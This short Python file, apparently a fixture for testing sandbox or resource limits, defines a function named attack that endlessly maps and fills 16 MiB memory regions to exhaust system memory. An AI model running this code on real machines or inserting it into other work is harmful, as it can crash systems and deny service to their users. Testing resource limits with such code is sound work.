"""Maps shared memory and touches it."""

import mmap


def attack(x):
    maps = []
    while True:
        maps.append(mmap.mmap(-1, 1 << 24))
        maps[-1].write(b"x" * (1 << 24))
